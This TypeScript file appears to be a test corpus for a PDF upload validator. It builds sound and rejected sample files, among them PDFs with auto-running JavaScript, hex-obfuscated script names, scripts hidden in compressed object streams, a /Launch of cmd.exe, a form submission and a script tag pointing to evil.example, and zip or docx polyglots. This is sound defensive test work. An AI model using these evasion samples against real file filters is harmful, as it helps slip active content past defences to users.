import { deflateSync } from 'node:zlib';
import { bad, badOfAnyKind, type CorpusFile, good } from './corpus-file.ts';
import { makeDocx } from './make-docx.ts';
import { makePdf } from './make-pdf.ts';
import { makeZip } from './make-zip.ts';

const sound = makePdf();
const before = (end: number): Buffer => sound.subarray(0, sound.length + end);
const join = (...parts: readonly (string | Buffer)[]): Buffer =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)));
const zip = makeZip([{ name: 'run.exe', content: 'MZ' }]);
/** An object stream. */
const packed = (objects: string, dictionary = '/Filter /FlateDecode', type = '/ObjStm'): string => {
  const data = dictionary === '' ? Buffer.from(objects) : deflateSync(objects);
  const head = `<< /Type ${type} /N 1 /First 4 /Length ${data.length} ${dictionary} >>`;
  return `${head}\nstream\n${data.toString('latin1')}\nendstream`;
};
const script = '<< /S /JavaScript /JS (app.alert(1)) >>';
const key = '/Encrypt 9 0 R /ID [<00><00>]';

export const pdfCorpus: readonly CorpusFile[] = [
  good('a plain one', 'cv.pdf', () => sound),
  good('one with a table of objects that is a stream', 'cv.pdf', () => makePdf({ isStream: true })),
  good('one of the oldest kind', 'cv.pdf', () => makePdf({ version: '1.0' })),
  good('one of the newest kind', 'cv.pdf', () => makePdf({ version: '2.0', isStream: true })),
  good('one that ends without a line break', 'cv.pdf', () => makePdf({ end: '%%EOF' })),
  good('one with blanks and zeros behind its end', 'cv.pdf', () => join(sound, ' \r\n\0\0\0')),
  good('one that was changed, and has two ends', 'cv.pdf', () =>
    join(sound, sound.subarray(sound.lastIndexOf('xref\n0'))),
  ),
  good('one of five megabytes', 'cv.pdf', () => makePdf({ head: `%${'x'.repeat(4_998_000)}\n` })),
  good('one that speaks of keys, and has none', 'cv.pdf', () =>
    makePdf({ words: '/Encrypt', trailer: '/EncryptMetadata true' }),
  ),
  good('one that was called by its path', 'C:\\fakepath\\My CV.PDF', () => sound),
  good('one with letters of many languages in its name', '履歴書 – Zoë (2026).pdf', () => sound),
  good('one with the signs of a zip in its words', 'cv.pdf', () =>
    makePdf({ words: 'PK\u0005\u0006 and PK\u0003\u0004' }),
  ),
  good('one with words of a page in them, far from its start', 'cv.pdf', () =>
    makePdf({ head: `%${' '.repeat(2000)}<html>\n` }),
  ),
  ...badOfAnyKind('.pdf', () => sound),
  bad('only its first line', 'damaged', 'cv.pdf', () => Buffer.from('%PDF-1.7\n')),
  bad('first line and end alone', 'damaged', 'cv.pdf', () => Buffer.from('%PDF-1.7\n%%EOF\n')),
  bad('a first line without a version', 'kind', 'cv.pdf', () => join('%PDF-\n', sound)),
  bad('a version that there is not', 'kind', 'cv.pdf', () => makePdf({ version: '9.9' })),
  bad('one that was cut off before its end', 'damaged', 'cv.pdf', () => before(-6)),
  bad('its first half', 'damaged', 'cv.pdf', () => sound.subarray(0, sound.length / 2)),
  bad('a table of objects behind its end', 'damaged', 'cv.pdf', () => makePdf({ tell: () => 99_999_999 })),
  bad('a table of objects where there is none', 'damaged', 'cv.pdf', () => makePdf({ tell: () => 12 })),
  bad('a place that is no number', 'damaged', 'cv.pdf', () => makePdf({ tell: () => 'here' })),
  bad('an object in the place of the table', 'damaged', 'cv.pdf', () =>
    makePdf({ tell: () => sound.indexOf('1 0 obj') }),
  ),
  bad('a table without a root', 'damaged', 'cv.pdf', () => join(sound.toString('latin1').replace('/Root 1 0 R', ''))),
  bad('five megabytes behind its end', 'damaged', 'cv.pdf', () => join(sound, Buffer.alloc(4_990_000, 32))),
  bad('a trailer of four megabytes', 'damaged', 'cv.pdf', () => makePdf({ trailer: ' '.repeat(4_000_000) })),
  bad('an encrypted one', 'locked', 'cv.pdf', () => makePdf({ trailer: key })),
  bad('an encrypted one with a table that is a stream', 'locked', 'cv.pdf', () =>
    makePdf({ trailer: key, isStream: true }),
  ),
  bad('an encrypted one that writes the word otherwise', 'locked', 'cv.pdf', () =>
    makePdf({ trailer: key.replace('crypt', '#63rypt') }),
  ),
  bad('an encrypted one with its key in place', 'locked', 'cv.pdf', () =>
    makePdf({ trailer: '/Encrypt<</Filter/Standard/V 2>>' }),
  ),
  good('one that names languages and keys in its words', 'cv.pdf', () =>
    makePdf({ words: 'HTML/CSS/JS, Java/JavaScript, /Launch, /EmbeddedFile', catalog: '/Lang (C/JavaScript)' }),
  ),
  good('one with harmless objects in a stream of objects', 'cv.pdf', () =>
    makePdf({ object: packed('9 0 << /Title (About /JavaScript) /S /GoTo >>'), isStream: true }),
  ),
  bad('a script that runs when it is opened', 'active', 'cv.pdf', () => makePdf({ catalog: `/OpenAction ${script}` })),
  bad('a script in an object of its own', 'active', 'cv.pdf', () =>
    makePdf({ catalog: '/AA << /WC 6 0 R >>', object: script }),
  ),
  bad('a script whose name is written otherwise', 'active', 'cv.pdf', () =>
    makePdf({ object: '<</S/#4AavaScrip#74/J#53(x)>>' }),
  ),
  bad('a script behind a comment', 'active', 'cv.pdf', () => makePdf({ object: '<< /S %x\n /JavaScript /JS (x) >>' })),
  bad('a script whose kind is an object', 'active', 'cv.pdf', () => makePdf({ object: '/JavaScript' })),
  bad('a script in a stream of objects', 'active', 'cv.pdf', () =>
    makePdf({ object: packed(`9 0 ${script}`), isStream: true }),
  ),
  bad('a script in a stream of objects whose name is written otherwise', 'active', 'cv.pdf', () =>
    makePdf({ object: packed(`9 0 ${script}`, '/Filter[/Fl#61teDecode]', '/Obj#53tm'), isStream: true }),
  ),
  bad('a script in a stream of objects that is not compressed', 'active', 'cv.pdf', () =>
    makePdf({ object: packed('9 0 << /S /#4aavaScript >>', ''), isStream: true }),
  ),
  bad('objects that are compressed as nobody does', 'damaged', 'cv.pdf', () =>
    makePdf({ object: packed(`9 0 ${script}`, '/Filter /LZWDecode') }),
  ),
  bad('objects of a hundred megabytes', 'swollen', 'cv.pdf', () =>
    makePdf({ object: packed(' '.repeat(100_000_000)) }),
  ),
  bad('a program to start', 'active', 'cv.pdf', () =>
    makePdf({ object: '<< /Type /Action /S /Launch /F (cmd.exe) >>' }),
  ),
  bad('an action that sends a form', 'active', 'cv.pdf', () =>
    makePdf({ catalog: '/OpenAction << /S /SubmitForm /F (http://evil.example) >>' }),
  ),
  bad('a form with scripts of its own', 'active', 'cv.pdf', () =>
    makePdf({ catalog: '/AcroForm << /Fields [] /XFA 6 0 R >>' }),
  ),
  bad('a file inside', 'active', 'cv.pdf', () => makePdf({ catalog: '/Names << /EmbeddedFiles 6 0 R >>' })),
  bad('a file that is attached to a note', 'active', 'cv.pdf', () =>
    makePdf({ object: '<< /Type /Filespec /EF << /F 7 0 R >> >>' }),
  ),
  bad('a zip behind it', 'kind', 'cv.pdf', () => join(sound, zip)),
  bad('a zip in it', 'kind', 'cv.pdf', () => makePdf({ head: `%${zip.toString('latin1')}\n` })),
  bad('a zip in it whose directory knows its place', 'kind', 'cv.pdf', () =>
    makeZip([{ name: 'a', content: 'x' }], { before: sound, after: sound }),
  ),
  bad('a zip in it that says a wrong length of its directory', 'kind', 'cv.pdf', () =>
    makeZip([{ name: 'a', content: 'x' }], { before: sound, after: sound, end: { 12: 1 } }),
  ),
  bad('a document behind it', 'kind', 'cv.pdf', () => join(sound, makeDocx())),
  bad('a document that is called a PDF', 'kind', 'cv.pdf', () => makeDocx()),
  bad('a page in its first lines', 'kind', 'cv.pdf', () => makePdf({ head: '%<html><body onload=alert(1)>\n' })),
  bad('a script in its first lines', 'kind', 'cv.pdf', () => makePdf({ head: '%<SCRIPT src=//evil.example>\n' })),
  bad('a program of a server in its first lines', 'kind', 'cv.pdf', () => makePdf({ head: '%<?php system(1);\n' })),
  bad('a RAR archive behind it', 'kind', 'cv.pdf', () => join(sound, 'Rar!\u001a\u0007\u0001\u0000')),
  bad('a 7z archive in it', 'kind', 'cv.pdf', () => makePdf({ head: "%7z\u00bc\u00af'\u001c\n" })),
];
